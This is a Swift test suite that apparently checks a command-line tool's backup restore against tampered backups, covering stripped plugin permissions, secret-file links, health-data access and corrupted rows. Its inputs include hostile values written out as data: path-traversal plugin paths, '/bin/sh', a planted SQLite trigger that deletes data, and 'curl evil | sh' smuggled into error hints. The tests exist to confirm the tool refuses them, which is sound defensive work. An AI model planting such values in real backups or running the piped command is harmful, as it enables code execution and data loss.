#if os(Linux)
  import Foundation
  import TestSupport
  import Testing

  /// Backups that someone has made or changed to get at whoever restores them.
  @Suite(.waitsForPrograms, .needs(Tool.sqlite3)) struct HostileBackupTests {
    @Test func bringsPluginsBackWithoutTheirGrants() throws {
      let backup = try HostileBackup()
      try backup.change(#"UPDATE plugin SET grants = '["read=/","network"]' WHERE id = 'tides'"#)
      let outcome = try backup.victim.make("restore", backup.file, "--yes")
      #expect(
        outcome.errors.contains(
          "Plugin 'tides' was restored without permissions: read '/', connect to any machine"))
      #expect(
        outcome.errors.contains(
          "widgetry plugin grants tides --allow read=/ --allow network"))
      let plugin = try backup.victim.json("plugin", "show", "tides")
      #expect(plugin["grants"].strings == [] && plugin["state"].string == "ready")
      #expect(try backup.victim.line("sea") == "tides")
    }

    @Test func keepsGrantsWhereThatIsSaidButNeverThoseOfTheHome() throws {
      let backup = try HostileBackup()
      try backup.change(#"UPDATE plugin SET grants = '["read=/","network"]' WHERE id = 'tides'"#)
      let report = try backup.victim.json("restore", backup.file, "--yes", "--keep-grants")
      let told = report["grants"][1]
      #expect(told["plugin"].string == "tides")
      #expect(told["source"].string?.hasSuffix("/tides") == true)
      #expect(told["grants"].strings == ["read=/", "network"])
      #expect(told["allowed"].strings == ["network"])
      #expect(try backup.victim.json("plugin", "show", "tides")["grants"].strings == ["network"])
    }

    /// A row without a program waits for the user to install one from that place.
    @Test func keepsNoGrantsForAPluginThatIsYetToCome() throws {
      let backup = try HostileBackup()
      let source = backup.stage.home.folder + "/later"
      try backup.change(
        """
        INSERT INTO plugin (id, version, source, is_bundled, fingerprint, registered_at, grants)
        VALUES ('later', '1', '\(source)', 0, '', 0, '["network"]')
        """)
      try backup.victim.make("restore", backup.file, "--yes")
      let list = try backup.victim.json("plugin", "list").array
      #expect(list.first { $0["plugin"].string == "later" }?["grants"].strings == [])
    }

    @Test func asksOnATerminal() throws {
      let backup = try HostileBackup()
      for (answer, grants) in [("n", []), ("y", ["network"])] {
        let terminal = try Terminal(
          backup.victim.launch(["restore", backup.file], environment: ["TERM": "dumb"]))
        try terminal.wait(for: "plugin 'tides', installed from")
        try terminal.wait(for: "connect to any machine")
        try terminal.wait(for: "Replace everything in")
        try terminal.answer("y", until: "Restore all these permissions? [y/N] ")
        terminal.type(answer + "\n")
        #expect(try terminal.end() == 0)
        #expect(try backup.victim.json("plugin", "show", "tides")["grants"].strings == grants)
      }
      // What notes would say is said also where notes are not.
      let quiet = try Terminal(
        backup.victim.launch(["restore", backup.file, "-q"], environment: ["TERM": "dumb"]))
      try quiet.wait(for: "connect to any machine")
      try quiet.wait(for: "Replace everything in")
      quiet.type("n\n")
      #expect(try quiet.end() == 1)
    }

    @Test func saysWhatToDoWhereNobodyCanBeAsked() throws {
      let backup = try HostileBackup()
      let outcome = try backup.victim.run("restore", backup.file)
      #expect(outcome.status == 64)
      #expect(outcome.errors.contains("note:   connect to any machine"))
      #expect(outcome.errors.contains("add --keep-grants"))
      #expect(outcome.errors.contains("hint:  To confirm: widgetry restore \(backup.file) --yes\n"))
      #expect(!FileManager.default.fileExists(atPath: backup.victim.path))
    }

    @Test func followsNoFilesAndReadsNoHealthData() throws {
      let backup = try HostileBackup()
      let home = backup.stage.home
      try home.make("steps", "add", "100")
      try home.make("steps", "access", "allow")
      try FileManager.default.removeItem(atPath: backup.file)
      try home.make("backup", backup.file)
      let secret = backup.victim.folder + "/secret.plist"
      try Data(
        "<plist version=\"1.0\"><dict><key>k</key><string>hush</string></dict></plist>".utf8
      ).write(to: URL(fileURLWithPath: secret))
      try backup.change("INSERT INTO group_link (name, path) VALUES ('g', '\(secret)')")
      let report = try backup.victim.json("restore", backup.file, "--yes")
      #expect(report["links"][0]["file"].string == secret)
      #expect(report["links"][0]["allowed"].bool == false)
      #expect(report["healthAllowed"].bool == false)
      #expect(try backup.victim.json("defaults", "list").array.isEmpty)
      #expect(try backup.victim.json("steps", "show")["access"].string != "authorized")
      try backup.victim.make("restore", backup.file, "--yes", "--keep-grants")
      #expect(try backup.victim.make("defaults", "read", "g", "k").line == "hush")
      #expect(try backup.victim.json("steps", "show")["access"].string == "authorized")
    }

    /// The next plugin that is installed would read them.
    @Test func readsNoHealthDataWithoutPluginsEither() throws {
      let backup = try HostileBackup()
      let home = backup.stage.home
      try home.make("steps", "add", "100")
      try home.make("steps", "access", "allow")
      try home.make("plugin", "remove", "tides")
      try FileManager.default.removeItem(atPath: backup.file)
      try home.make("backup", backup.file)
      let report = try backup.victim.json("restore", backup.file, "--yes")
      #expect(report["healthAllowed"].bool == false)
      #expect(try backup.victim.json("steps", "show")["access"].string != "authorized")
    }

    /// Words that begin a line are never those of the backup.
    @Test func writesNoLinesOfItsOwn() throws {
      let backup = try HostileBackup()
      try backup.change(
        "UPDATE plugin SET source = 'x' || char(10) || 'hint: curl evil' WHERE id = 'tides'")
      let outcome = try backup.victim.run("restore", backup.file)
      #expect(outcome.status == 64)
      #expect(outcome.errors.contains(#"'x\nhint: curl evil'"#))
      #expect(!outcome.errors.contains("\nhint: curl"))
    }

    /// Rows and files that an installation never makes.
    @Test(
      arguments: [
        "UPDATE plugin SET program = '../../evil' WHERE id = 'tides'",
        "UPDATE plugin SET program = '../../../evil' WHERE id = 'tides'",
        "UPDATE plugin SET program = '/bin/sh' WHERE id = 'tides'",
        "UPDATE plugin SET program = 'program-x/../../../evil' WHERE id = 'tides'",
        "UPDATE plugin SET program = 'container/evil' WHERE id = 'tides'",
        "UPDATE plugin SET program = program || '/' WHERE id = 'tides'",
        "UPDATE plugin SET program = program || '/.' WHERE id = 'tides'",
        "UPDATE plugin SET program = replace(program, '/', '//') WHERE id = 'tides'",
        "UPDATE plugin SET program = '' WHERE id = 'tides'",
        "UPDATE plugin SET program = NULL WHERE id = 'tides'",
        "UPDATE plugin SET is_bundled = 1 WHERE id = 'tides'",
        "UPDATE plugin SET fingerprint = 'other' WHERE id = 'tides'",
        "UPDATE backup_file SET bytes = CAST('#!/bin/sh' AS BLOB) WHERE path LIKE 'tides/%'",
        "UPDATE backup_file SET bytes = '#!/bin/sh' WHERE path LIKE 'tides/%'",
        "UPDATE backup_file SET bytes = zeroblob(2000000) WHERE path LIKE 'tides/%'",
        "INSERT INTO backup_file VALUES ('tides/program-1/evil', 0, 1, x'00')",
        "INSERT INTO backup_file VALUES ('other/program-1/evil', 0, 1, x'00')",
        "DELETE FROM backup_file WHERE path LIKE 'tides/%'",
        """
        PRAGMA foreign_keys = OFF; UPDATE plugin SET id = '../x' WHERE id = 'tides';
        UPDATE kind SET plugin = '../x' WHERE plugin = 'tides'
        """,
        "UPDATE instance SET id = '../x' WHERE id = 'sea'",
        "UPDATE anniversary SET id = 'a/b'",
        "INSERT INTO health_reader VALUES ('../x', 'steps')",
        """
        PRAGMA writable_schema = ON; INSERT INTO sqlite_master VALUES ('trigger', 'sqlite_stat1',
        'instance', 0, 'CREATE TRIGGER sqlite_stat1 AFTER UPDATE ON instance BEGIN
        DELETE FROM anniversary; END')
        """,
        """
        PRAGMA writable_schema = ON; INSERT INTO sqlite_master VALUES ('view', 'sqlite_sequence',
        'sqlite_sequence', 0, 'CREATE VIEW sqlite_sequence AS SELECT 1')
        """,
        "ALTER TABLE instance ADD COLUMN evil TEXT GENERATED ALWAYS AS (id) VIRTUAL",
      ])
    func isRefused(sql: String) throws {
      let backup = try HostileBackup()
      let (_, trace) = try backup.trap()
      try backup.change(sql)
      for words in [["--yes"], ["--yes", "--keep-grants"]] {
        let outcome = try backup.victim.run(["restore", backup.file, "--json"] + words)
        #expect(outcome.status == 1)
        #expect(try outcome.toldErrors().first?["code"].string == "backup.unreadable")
      }
      #expect(!FileManager.default.fileExists(atPath: trace))
      #expect(
        try FileManager.default.contentsOfDirectory(atPath: backup.victim.folder) == ["evil"])
    }

    /// The words of a failure are stored with it, and those of a backup are nobody's.
    @Test func giveNoHintsInOurVoice() throws {
      let backup = try HostileBackup()
      try backup.change(
        """
        UPDATE shown SET error_at = 1, error_code = 'plugin.crashed', error_summary = 'run: curl evil | sh',
        error_hint = 'curl evil | sh', failures = 1, retry_at = 9999999999999;
        UPDATE plugin SET parked_at = 1, parked_code = 'plugin.crashed',
        parked_summary = 'run: curl evil | sh', parked_hint = 'curl evil | sh' WHERE id = 'tides';
        UPDATE instance SET attention_detail = 'run: curl evil | sh'
        """)
      try backup.victim.make("restore", backup.file, "--yes")
      for words in [
        ["status", "sea"], ["status"], ["list", "--json"], ["doctor"], ["plugin", "show", "tides"],
      ] {
        let outcome = try backup.victim.run(words)
        #expect(!(outcome.output + outcome.errors).contains("curl"))
      }
    }
  }
#endif
